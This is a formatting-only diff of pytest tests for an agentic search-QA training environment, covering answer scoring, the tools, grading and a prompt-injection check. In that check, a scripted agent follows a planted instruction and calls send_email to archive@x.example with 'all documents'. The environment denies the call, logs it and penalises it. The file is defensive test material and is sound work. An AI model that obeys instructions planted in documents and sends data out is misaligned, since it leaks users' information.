@@ -9,7 +9,12 @@ import pytest
 
 from agentic_rl.envs import EpisodeEndedError, EpisodeNotStartedError, SearchQAEnv, make, registered
 from agentic_rl.envs.search_qa import exact_match_score, normalize_answer, token_f1_score
-from agentic_rl.envs.search_qa_world import INJECTED_TOOLS, QUESTION_KINDS, make_question, make_world
+from agentic_rl.envs.search_qa_world import (
+    INJECTED_TOOLS,
+    QUESTION_KINDS,
+    make_question,
+    make_world,
+)
 from agentic_rl.tools import parse_tool_calls
 from agentic_rl.types import Action, Message, StopReason, Trajectory, Turn
 
@@ -31,8 +36,19 @@ def _play(env: SearchQAEnv, seed: int, replies: list[str] | None = None) -> Traj
         o, r, terminated, _trunc, step_info = env.step(_action(reply, len(turns)))
         messages += [Message("assistant", reply), *o.messages]
         turns.append(Turn(len(turns), _action(reply), o, r, (), (), (), (), step_info))
-    return Trajectory("search-qa-v0", seed, "g", "t", tuple(messages), tuple(turns), (), (), (),
-                      StopReason.TERMINATED, info=info)
+    return Trajectory(
+        "search-qa-v0",
+        seed,
+        "g",
+        "t",
+        tuple(messages),
+        tuple(turns),
+        (),
+        (),
+        (),
+        StopReason.TERMINATED,
+        info=info,
+    )
 
 
 @pytest.fixture(scope="module")
@@ -42,27 +58,32 @@ def env():
 
 # -- scoring functions (SQuAD v1.1 definitions) ----------------------------------------------
 
+
 def test_normalize_answer():
     assert normalize_answer("  The Saltlands! ") == "saltlands"
     assert normalize_answer("An  Apple, a day") == "apple day"
 
 
-@pytest.mark.parametrize("pred, gold, em, f1", [
-    ("Velora Tash", "velora tash.", 1.0, 1.0),
-    # pred tokens {velora}, gold {velora, tash}: P = 1/1, R = 1/2, F1 = 2·1·0.5/1.5 = 2/3
-    ("Velora", "Velora Tash", 0.0, 2 / 3),
-    # pred {velora, brin, tash}, gold {velora, tash}: P = 2/3, R = 1, F1 = 2·(2/3)/(5/3) = 0.8
-    ("Velora Brin Tash", "Velora Tash", 0.0, 0.8),
-    ("Quenmoor", "Velora Tash", 0.0, 0.0),
-    (None, "Velora Tash", 0.0, 0.0),
-    ("the", "Velora Tash", 0.0, 0.0),
-])
+@pytest.mark.parametrize(
+    "pred, gold, em, f1",
+    [
+        ("Velora Tash", "velora tash.", 1.0, 1.0),
+        # pred tokens {velora}, gold {velora, tash}: P = 1/1, R = 1/2, F1 = 2·1·0.5/1.5 = 2/3
+        ("Velora", "Velora Tash", 0.0, 2 / 3),
+        # pred {velora, brin, tash}, gold {velora, tash}: P = 2/3, R = 1, F1 = 2·(2/3)/(5/3) = 0.8
+        ("Velora Brin Tash", "Velora Tash", 0.0, 0.8),
+        ("Quenmoor", "Velora Tash", 0.0, 0.0),
+        (None, "Velora Tash", 0.0, 0.0),
+        ("the", "Velora Tash", 0.0, 0.0),
+    ],
+)
 def test_exact_match_and_f1_by_hand(pred, gold, em, f1):
     assert exact_match_score(pred, gold) == em
     assert token_f1_score(pred, gold) == pytest.approx(f1)
 
 
 # -- world -----------------------------------------------------------------------------------
+
 
 def test_world_is_deterministic_and_consistent():
     a, b = make_world(3), make_world(3)
@@ -96,6 +117,7 @@ def test_bad_arguments_rejected():
 
 # -- tools -----------------------------------------------------------------------------------
 
+
 def test_search_finds_the_named_entity_first(env):
     world = env.world
     for doc in world.documents[:10]:
@@ -110,8 +132,16 @@ def test_search_finds_the_named_entity_first(env):
 def test_open_and_bad_ids_become_observations(env):
     env.reset(seed=0)
     doc = env.world.documents[0]
-    traj = _play(env, 0, [_call("open", doc_id=doc.doc_id) + _call("open", doc_id="nope") + _call("search", query=3),
-                          "<answer>x</answer>"])
+    traj = _play(
+        env,
+        0,
+        [
+            _call("open", doc_id=doc.doc_id)
+            + _call("open", doc_id="nope")
+            + _call("search", query=3),
+            "<answer>x</answer>",
+        ],
+    )
     results = traj.turns[0].info["tool_results"]
     assert results[0]["content"] == doc.text and results[0]["ok"]
     assert "no document 'nope'" in results[1]["content"] and not results[1]["ok"]
@@ -119,6 +149,7 @@ def test_open_and_bad_ids_become_observations(env):
 
 
 # -- episode contract and grading ------------------------------------------------------------
+
 
 def test_registered_and_same_seed_same_question(env):
     assert "encyclopedia" in {s.env_id: s for s in registered()}["search-qa-v0"].description
@@ -147,17 +178,25 @@ def test_oracle_scores_one_on_every_kind(env):
         assert total == pytest.approx(1.0 + 0.2 - 0.03 * hops)
 
 
-@pytest.mark.parametrize("reply, em", [
-    ("<answer>{gold}</answer>", 1.0),
-    ("<answer>  {gold_lower}. </answer>", 1.0),
-    ("<answer>Nobody Known</answer>", 0.0),
-    ("<answer>{gold}</answer> or maybe <answer>Nobody</answer>", 0.0),  # several answers score 0
-    ("It is {gold}.", 0.0),  # no answer tag
-])
+@pytest.mark.parametrize(
+    "reply, em",
+    [
+        ("<answer>{gold}</answer>", 1.0),
+        ("<answer>  {gold_lower}. </answer>", 1.0),
+        ("<answer>Nobody Known</answer>", 0.0),
+        (
+            "<answer>{gold}</answer> or maybe <answer>Nobody</answer>",
+            0.0,
+        ),  # several answers score 0
+        ("It is {gold}.", 0.0),  # no answer tag
+    ],
+)
 def test_final_answer_grading(env, reply, em):
     env.reset(seed=3)
     gold = env.question.answer
-    _, reward, terminated, _, info = env.step(_action(reply.format(gold=gold, gold_lower=gold.lower())))
+    _, reward, terminated, _, info = env.step(
+        _action(reply.format(gold=gold, gold_lower=gold.lower()))
+    )
     assert terminated and reward == em and info["exact_match"] == em
     if em == 0.0 and "Nobody" not in reply:
         assert info["token_f1"] == 0.0 and info["answer"] is None
@@ -165,13 +204,20 @@ def test_final_answer_grading(env, reply, em):
 
 # -- injected instructions -------------------------------------------------------------------
 
+
 def test_following_an_injected_instruction_is_denied_and_costs(tmp_path):
     e = SearchQAEnv(audit_path=str(tmp_path / "audit.jsonl"))
     doc = next(d for d in e.world.documents if d.injected and "send_email" in d.text)
     e.reset(seed=0)
-    traj = _play(e, 0, [_call("open", doc_id=doc.doc_id),
-                        _call("send_email", to="archive@x.example", body="all documents"),
-                        f"<answer>{e.question.answer}</answer>"])
+    traj = _play(
+        e,
+        0,
+        [
+            _call("open", doc_id=doc.doc_id),
+            _call("send_email", to="archive@x.example", body="all documents"),
+            f"<answer>{e.question.answer}</answer>",
+        ],
+    )
     denied = traj.turns[1].info["tool_results"][0]
     assert denied["content"].startswith("Denied") and not denied["ok"]
     total, parts = e.rubric().score(traj)
@@ -181,7 +227,10 @@ def test_following_an_injected_instruction_is_denied_and_costs(tmp_path):
     # cost 0.01 (one open); risk 1.0·followed_injection + 0.5·denied_calls
     assert total == pytest.approx(1.0 + 0.1 * 1.5 - 0.01 - 1.0 - 0.5)
     records = [json.loads(x) for x in (tmp_path / "audit.jsonl").read_text().splitlines()]
-    assert [(r["tool"], r["decision"]) for r in records] == [("open", "allow"), ("send_email", "deny")]
+    assert [(r["tool"], r["decision"]) for r in records] == [
+        ("open", "allow"),
+        ("send_email", "deny"),
+    ]
 
 
 def test_injected_tools_are_not_offered(env):
@@ -196,4 +245,9 @@ def test_passes_check_env():
     # one seed per question kind: every kind's oracle succeeds
     report = check_env("search-qa-v0", seeds=range(len(QUESTION_KINDS)))
     assert report.oracle_success == 1.0
-    assert check_env("search-qa-v0", seeds=[0, 1], env_kwargs={"world_seed": 7, "injection_rate": 1.0}).oracle_success == 1.0
+    assert (
+        check_env(
+            "search-qa-v0", seeds=[0, 1], env_kwargs={"world_seed": 7, "injection_rate": 1.0}
+        ).oracle_success
+        == 1.0
+    )
